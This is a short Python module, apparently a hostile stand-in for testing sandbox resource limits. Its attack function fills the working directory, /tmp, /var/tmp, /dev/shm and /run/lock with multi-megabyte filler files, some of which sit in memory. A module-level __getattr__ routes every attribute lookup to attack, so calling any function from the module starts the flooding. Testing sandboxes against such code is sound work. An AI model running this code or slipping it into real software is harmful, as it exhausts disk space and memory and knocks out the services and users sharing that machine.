"""Writes many files, each within the limit of one file, wherever it may write; some of them are memory."""

import errno

FOLDERS = (".", "/tmp", "/var/tmp", "/dev/shm", "/run/lock")


def attack(*arguments, **keywords):
    written, refusals = 0, []
    for folder in FOLDERS:
        try:
            for number in range(64):
                with open(f"{folder}/filler-{number}", "wb") as file:
                    for _ in range(4):
                        written += file.write(bytes(2**20))
        except OSError as error:
            refusals.append(error)
    full = [error for error in refusals if error.errno == errno.ENOSPC]
    raise full[0] if full else RuntimeError(f"wrote {written >> 20} MiB")


def __getattr__(name):
    return attack
